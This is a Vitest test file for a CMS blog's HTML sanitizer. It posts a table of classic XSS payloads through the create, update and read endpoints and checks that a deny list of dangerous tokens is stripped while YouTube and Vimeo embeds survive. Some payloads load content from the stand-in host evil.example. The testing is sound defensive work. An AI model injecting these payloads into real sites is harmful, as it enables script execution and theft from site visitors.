/**
 * Blog rich text: the classic XSS payloads posted through the admin's create and update
 * leave no trace in the admin read (/blog/get/{id}) nor the public article (/site/blogs/{id}); HTML
 * written straight into the database (a restore, an old row) is cleaned again on read; the two
 * video hosts' embeds survive.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestCms } from '../support/cms';
import { bootSignedIn } from '../support/boot';
import { form } from '../support/fixtures';

let cms: TestCms;
let token: string;

beforeAll(async () => {
  ({ cms, token } = await bootSignedIn());
});
afterAll(() => cms?.stop());

const PAYLOADS: Record<string, string> = {
  'script tag': '<script>alert(1)</script>',
  'script tag, mixed case and attributes': '<ScRiPt type="text/javascript" src="https://evil.example/x.js"></sCrIpT>',
  'img onerror': '<img src="x" onerror="alert(1)">',
  'img onerror, unquoted': '<img src=x onerror=alert(1)//>',
  'javascript: link': '<a href="javascript:alert(1)">click</a>',
  'javascript: link, entity-encoded': '<a href="&#106;avascript:alert(1)">click</a>',
  'javascript: link, tab inside': '<a href="java\tscript:alert(1)">click</a>',
  'vbscript: link': '<a href="vbscript:msgbox(1)">click</a>',
  'data: link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  'data: image': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'foreign iframe': '<iframe src="https://evil.example/embed/x"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'javascript: iframe': '<iframe src="javascript:alert(1)"></iframe>',
  'youtube look-alike host': '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  'style expression': '<p style="width: expression(alert(1))">text</p>',
  'style url()': '<p style="background-image: url(javascript:alert(1))">text</p>',
  'style tag': '<style>body{background:url("javascript:alert(1)")}</style>',
  'svg onload': '<svg onload="alert(1)"><circle r="1"/></svg>',
  'math/svg script': '<svg><script>alert(1)</script></svg>',
  'object and embed': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  'form with action':
    '<form action="https://evil.example"><input name="q"><button formaction="javascript:alert(1)">go</button></form>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'base href': '<base href="https://evil.example/">',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'event handler on an allowed tag': '<p onclick="alert(1)" onmouseover="alert(1)">text</p>',
  'broken-tag confusion': '<<script>alert(1);//<</script>',
  'comment confusion': '<!--<img src="--><img src=x onerror=alert(1)//">',
  'protocol-relative image': '<img src="//evil.example/x.png">',
};

/** What none of the answers may contain, lower-cased. */
const FORBIDDEN = [
  '<script',
  'alert(',
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'javascript:',
  'vbscript:',
  'data:',
  'evil.example',
  'expression(',
  'url(',
  '<style',
  '<svg',
  '<object',
  '<embed',
  '<form',
  '<input',
  '<button',
  'formaction',
  '<meta',
  '<base',
  '<link',
  'srcdoc',
  'msgbox',
];

const EMBEDS = [
  '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/dQw4w9WgXcQ?showinfo=0"></iframe>',
  '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://player.vimeo.com/video/76979871/"></iframe>',
];

const blogFields = (content: string, title = 'XSS probe') => ({
  title,
  short_content: 'A probe of the sanitizer.',
  content: `<p>Kept paragraph.</p>${content}`,
});

function expectClean(html: string) {
  const lower = html.toLowerCase();
  for (const needle of FORBIDDEN) expect.soft(lower, `"${needle}" survived in: ${html}`).not.toContain(needle);
  expect(html).toContain('<p>Kept paragraph.</p>');
}

async function readBoth(id: string): Promise<string[]> {
  const admin = await cms.request<{ data: { content: string } }>(`/blog/get/${id}`);
  const site = await cms.request<{ data: { content: string } }>(`/site/blogs/${id}`);
  expect(admin.status).toBe(200);
  expect(site.status).toBe(200);
  return [admin.body.data.content, site.body.data.content];
}

describe('blog content through /blog/create and /blog/update', () => {
  it.each(Object.entries(PAYLOADS))('%s: removed on create and on update', async (_name, payload) => {
    const created = await cms.request<{ data: { _id: string; content: string } }>('/blog/create', {
      token,
      form: form(blogFields(payload)),
    });
    expect(created.status).toBe(200);
    const id = created.body.data._id;
    expectClean(created.body.data.content);
    for (const html of await readBoth(id)) expectClean(html);

    // The same payload through update, wrapped differently so it is a real change.
    const updated = await cms.request<{ data: { content: string } }>('/blog/update', {
      token,
      form: form({ _id: id, ...blogFields(`<blockquote>${payload}</blockquote>`) }),
    });
    expect(updated.status).toBe(200);
    expectClean(updated.body.data.content);
    for (const html of await readBoth(id)) expectClean(html);
  });

  it('removes all the payloads at once and keeps the two video hosts’ embeds', async () => {
    const created = await cms.request<{ data: { _id: string } }>('/blog/create', {
      token,
      form: form(blogFields([...Object.values(PAYLOADS), ...EMBEDS].join(''))),
    });
    expect(created.status).toBe(200);
    for (const html of await readBoth(created.body.data._id)) {
      expectClean(html);
      expect(html).toContain('src="https://www.youtube.com/embed/dQw4w9WgXcQ?showinfo=0"');
      expect(html).toContain('src="https://player.vimeo.com/video/76979871/"');
      expect(html.match(/<iframe/g)).toHaveLength(2);
    }
  });

  it('answers 400 when nothing is left once cleaned, and stores nothing', async () => {
    const before = await cms.count('api::blog.blog');
    const res = await cms.request('/blog/create', {
      token,
      form: form({
        ...blogFields(''),
        content: '<script>alert(1)</script><iframe src="https://evil.example/x"></iframe>',
      }),
    });
    expect(res.status).toBe(400);
    expect(res.body).toEqual({ status: false, message: 'Content is required.' });
    expect(await cms.count('api::blog.blog')).toBe(before);
  });
});

describe('blog content already in the database', () => {
  it('is cleaned again on read (a restored or old row cannot carry a script to the page)', async () => {
    const raw = `<p>Kept paragraph.</p>${Object.values(PAYLOADS).join('')}${EMBEDS.join('')}`;
    const row = await cms.strapi.documents('api::blog.blog').create({
      data: {
        ...blogFields(''),
        content: '<p>Clean</p>',
        meta_title: '',
        meta_description: '',
        meta_keyword: '',
      } as never,
      status: 'published',
    });
    // Every write through Strapi is sanitized (the blog lifecycles), so the raw HTML goes in behind its back.
    const { tableName } = cms.strapi.db.metadata.get('api::blog.blog');
    await cms.strapi.db.connection(tableName).where({ document_id: row.documentId }).update({ content: raw });
    const stored = await cms.strapi.documents('api::blog.blog').findOne({ documentId: row.documentId });
    // The probe is only meaningful if the raw HTML really is in the database.
    expect((stored as unknown as { content: string }).content).toContain('<script>alert(1)</script>');
    for (const html of await readBoth(row.documentId)) {
      expectClean(html);
      expect(html.match(/<iframe/g)).toHaveLength(2);
    }
  });
});
